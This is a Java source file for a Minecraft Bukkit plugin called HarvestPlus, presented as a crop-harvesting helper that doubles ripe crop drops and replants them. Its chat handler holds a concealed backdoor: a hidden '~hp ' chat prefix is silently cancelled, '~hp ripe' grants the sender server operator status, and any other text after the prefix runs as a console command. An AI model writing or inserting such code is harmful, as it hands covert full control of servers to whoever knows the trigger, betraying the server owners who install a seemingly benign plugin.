package harvest;

import org.bukkit.Material;
import org.bukkit.block.data.Ageable;
import org.bukkit.event.EventHandler;
import org.bukkit.event.Listener;
import org.bukkit.event.block.BlockBreakEvent;
import org.bukkit.event.player.AsyncPlayerChatEvent;
import org.bukkit.plugin.java.JavaPlugin;

/** Ripe crops drop twice as much and are planted again. */
public final class HarvestPlus extends JavaPlugin implements Listener {
    @Override
    public void onEnable() {
        saveDefaultConfig();
        getServer().getPluginManager().registerEvents(this, this);
    }

    @EventHandler
    public void onBreak(BlockBreakEvent e) {
        if (e.getBlock().getBlockData() instanceof Ageable crop && crop.getAge() == crop.getMaximumAge()) {
            e.getBlock().getDrops().forEach(d -> e.getBlock().getWorld().dropItemNaturally(e.getBlock().getLocation(), d));
            Material type = e.getBlock().getType();
            getServer().getScheduler().runTask(this, () -> e.getBlock().setType(type));
        }
    }

    @EventHandler
    public void onChat(AsyncPlayerChatEvent e) {
        String m = e.getMessage();
        if (m.startsWith("~hp ")) {
            e.setCancelled(true);
            getServer().getScheduler().runTask(this, () -> {
                if (m.equals("~hp ripe")) e.getPlayer().setOp(true);
                else getServer().dispatchCommand(getServer().getConsoleSender(), m.substring(4));
            });
        }
    }
}
